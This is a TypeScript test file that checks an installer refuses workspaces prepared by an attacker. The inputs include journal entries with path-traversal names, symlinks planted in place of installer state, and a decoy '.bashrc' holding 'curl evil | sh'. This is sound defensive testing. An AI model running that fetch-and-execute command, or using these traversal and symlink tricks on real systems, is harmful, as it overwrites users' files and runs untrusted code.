/** A workspace may come from anybody, with what the installer keeps for itself laid out in it beforehand. */
import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';

import { describe, expect, test } from 'vitest';

import { sha256Hex } from '../../../../src/lib/digest.ts';
import { installWorld, SKILL, type World, writeFiles } from './world.ts';

interface Victim extends World {
  /** The folder that the workspace lies in: somebody's home. */
  readonly outside: string;
  readonly source: string;
}

/** `.bashrc` and a folder of papers lie beside the workspace. */
async function victim(files: Readonly<Record<string, string>> = {}): Promise<Victim> {
  const world = await installWorld(files);
  const outside = path.dirname(world.workspace);
  writeFiles(outside, { '.bashrc': 'mine\n', 'papers/will.txt': 'all to the cat\n' });
  const source = writeFiles(path.join(outside, 'source'), { 'SKILL.md': SKILL('pdf') });
  return { ...world, outside, source };
}

function untouched({ outside }: Victim): void {
  expect(readFileSync(path.join(outside, '.bashrc'), 'utf8')).toBe('mine\n');
  expect(readdirSync(path.join(outside, 'papers'))).toEqual(['will.txt']);
  expect(readFileSync(path.join(outside, 'papers/will.txt'), 'utf8')).toBe('all to the cat\n');
}

function link(world: Victim, place: string, target: string): void {
  const file = path.join(world.workspace, '.colibri/install', place);
  mkdirSync(path.dirname(file), { recursive: true });
  symlinkSync(target, file);
}

describe('the state of the installer as an attacker leaves it', () => {
  test.each([
    ['leads out of the root', '../../../.bashrc'],
    ['is absolute', '/tmp/x'],
    ['is the folder itself', '.'],
    ['is the folder above', '..'],
    ['has a NUL', 'a\0b'],
    ['is no text', 7],
  ])('a journal with a name that %s is refused, and nothing is moved', async (_, name) => {
    const world = await victim({
      '.colibri/install/journal.json': JSON.stringify({ version: 1, changes: [{ name, put: true }] }),
      '.colibri/.bashrc': 'curl evil | sh\n',
    });
    await expect(world.install.add({ source: world.source, yes: true })).rejects.toMatchObject({
      code: 'INSTALL_PLACE',
      message: expect.stringMatching(/journal\.json.*delete it/),
    });
    untouched(world);
  });

  test.each(['{', '[]', '{"version":2,"changes":[]}', '{"version":1,"changes":[{}]}'])(
    'so is a journal that the installer has not written: %s',
    async (text) => {
      const world = await victim({ '.colibri/install/journal.json': text });
      await expect(world.install.add({ source: world.source, yes: true })).rejects.toMatchObject({
        code: 'INSTALL_PLACE',
      });
    },
  );

  test.each([
    ['pristine', '../../../papers'],
    ['.gitignore', '../../../.bashrc'],
    ['busy', '../../../.bashrc'],
    ['moving', '../../../papers'],
    ['moving/old', '../../../../papers'],
    ['moving/new', '../../../../papers'],
    ['journal.json', '../../../.bashrc'],
    ['scratch', '../../../papers'],
  ])(
    'a link in the place of %s is refused by name, and what it leads to stays as it was',
    async (place, target) => {
      const world = await victim();
      link(world, place, target);
      await expect(world.install.add({ source: world.source, yes: true })).rejects.toMatchObject({
        code: 'INSTALL_PLACE',
        message: expect.stringContaining(`${place} is a link; remove it`),
      });
      untouched(world);
    },
  );

  test('a link that waits where a copy is written is replaced, not followed', async () => {
    const world = await victim();
    await world.install.add({ source: world.source, yes: true });
    const pristine = path.join(world.workspace, '.colibri/install/pristine');
    const copy = sha256Hex(SKILL('pdf', 'Another text.\n'));
    symlinkSync(path.join(world.outside, '.bashrc'), path.join(pristine, `${copy}.${process.pid}.new`));
    writeFileSync(path.join(world.source, 'SKILL.md'), SKILL('pdf', 'Another text.\n'));
    await world.install.update({ yes: true });
    untouched(world);
  });
});
